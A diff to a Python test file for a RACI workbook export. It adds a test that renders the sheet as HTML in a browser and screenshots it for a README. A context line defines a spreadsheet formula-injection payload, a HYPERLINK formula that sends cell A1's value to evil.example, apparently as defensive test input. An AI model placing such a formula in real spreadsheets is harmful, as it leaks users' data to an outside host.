@@ -14,10 +14,12 @@ import httpx
 import openpyxl
 import pytest
 from api_client import demo_rows
+from browser import artifacts, rendered, screenshot
 from cli_client import rolegraph_on
 from conftest import GraphHandle, LiveServer
 
 from domain.boundary import RaciColumn, RaciMatrix, RaciRow
+from reports.pictures import sheet_html
 from reports.raci_workbook import FIXED, LEGEND, MEDIA_TYPE, PROBLEM_FILL, ROLE_COLOURS, render
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
@@ -269,3 +271,23 @@ def test_the_command_refuses_bad_usage(demo_graph: GraphHandle, args: tuple[str,
     assert said in done.stderr and "Traceback" not in done.stderr
     assert done.stdout == ""
 
+
+
+# -- the README's picture ----------------------------------------------------------------------
+
+def test_the_picture_of_the_workbook(demo_server: LiveServer) -> None:
+    """reports/pictures.py draws the real workbook's sheet (values, fills, merged headers) as
+    HTML: Chromium shows 组装部's cells with their role colours and 零件清点's highlight. The
+    workbook and the screenshot are kept as artefacts (``python -m reports.pictures
+    artifacts/screenshots/raci-D10.xlsx docs/raci-workbook.png`` makes the README's)."""
+    content = download(demo_server.client, department="D10").content
+    kept = artifacts() / "raci-D10.xlsx"
+    kept.write_bytes(content)
+    page = kept.with_suffix(".html")
+    page.write_text(sheet_html(content, "RACI"), encoding="utf-8")
+    dom = rendered(page.as_uri())
+    assert 'colspan="4"' in dom and "组装部" in dom  # the title, the merged department header
+    assert "零件清点" in dom and "no A" in dom
+    for colour in (*ROLE_COLOURS.values(), PROBLEM_FILL):
+        assert f"BACKGROUND:{colour.upper()}" in dom.upper().replace(" ", "")
+    assert screenshot(page.as_uri(), "raci-workbook", size=(1500, 560)).stat().st_size > 10_000
